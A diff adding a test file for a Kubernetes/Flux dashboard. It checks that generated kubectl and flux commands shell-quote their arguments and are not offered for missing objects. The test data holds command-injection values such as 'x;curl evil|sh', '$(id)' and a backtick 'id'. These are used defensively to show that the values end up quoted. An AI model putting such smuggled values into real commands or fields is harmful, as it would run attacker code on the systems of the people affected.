@@ -1,0 +1,69 @@
+// SPDX-License-Identifier: Apache-2.0
+
+import { render, type ComponentChild } from "preact";
+import { act } from "preact/test-utils";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import { flux } from "../src/kinds";
+import { commandLine } from "../src/parts/command";
+import { CanaryScreen } from "../src/screens/canary";
+import { CommitScreen, StageCommitScreen } from "../src/screens/commit";
+import { ObjectScreen } from "../src/screens/object";
+import { ObjectsScreen } from "../src/screens/objects";
+import { PipelineScreen } from "../src/screens/pipeline";
+import { PolicyScreen } from "../src/screens/policy";
+import { TimelineScreen } from "../src/screens/timeline";
+
+const evil = "x;curl evil|sh";
+
+describe("a command line", () => {
+  it.each([
+    ["plain words stay as they are", ["kubectl", "-n", "apps", "get", "canary", "api-1.x"], "kubectl -n apps get canary api-1.x"],
+    ["what a shell would read otherwise is quoted", ["get", evil, "$(id)", "a b", "`id`"], "get 'x;curl evil|sh' '$(id)' 'a b' '`id`'"],
+    ["a quote does not end the quotes", ["get", "a'; id '"], `get 'a'\\''; id '\\'''`],
+    ["a line does not end at a break", ["get", "a\nid"], "get 'a\nid'"],
+    ["an empty word stays a word", ["-n", "", "get"], "-n '' get"],
+  ])("%s", (_, words, want) => expect(commandLine(...words)).toBe(want));
+  it("of flux quotes the names", () => {
+    expect(flux("reconcile", { kind: "GitRepository", namespace: "apps", name: evil })).toBe("flux reconcile source git 'x;curl evil|sh' -n apps");
+  });
+});
+
+describe("commands to copy", () => {
+  let root: HTMLElement;
+  beforeEach(() => {
+    root = document.createElement("div");
+    document.body.append(root);
+  });
+  afterEach(() => {
+    render(null, root);
+    root.remove();
+    vi.unstubAllGlobals();
+  });
+
+  const shown = async (screen: ComponentChild, answer: () => Response) => {
+    vi.stubGlobal("fetch", vi.fn(async () => answer()));
+    await act(async () => render(screen, root));
+    await vi.waitFor(() => expect(root.textContent).not.toContain("Reading"));
+  };
+  const missing = () => Response.json({ error: "there is none" }, { status: 404 });
+
+  const screens: [string, ComponentChild][] = [
+    ["kind", <ObjectsScreen kind={evil} />],
+    ["object", <ObjectScreen kind="Kustomization" namespace="apps" name={evil} />],
+    ["Canary", <CanaryScreen namespace={evil} name="api" />],
+    ["Pipeline", <PipelineScreen namespace="apps" name={evil} />],
+    ["policy", <PolicyScreen namespace="apps" name={evil} />],
+    ["automation", <CommitScreen namespace="apps" name={evil} />],
+    ["commit", <StageCommitScreen namespace="apps" name={evil} commit="0123456" />],
+    ["application", <TimelineScreen lane={`Deployment/${evil}/api`} />],
+  ];
+  it.each(screens)("are not offered for a %s that a made-up address names", async (_, screen) => {
+    await shown(screen, missing);
+    expect(root.textContent).toContain("there is none");
+    expect(root.querySelector(".command")).toBeNull();
+  });
+  it("are offered for what is there", async () => {
+    await shown(<ObjectsScreen kind="Canary" />, () => Response.json({ items: [] }));
+    expect(root.querySelector(".command code")?.textContent).toBe("kubectl get canary -A");
+  });
+});
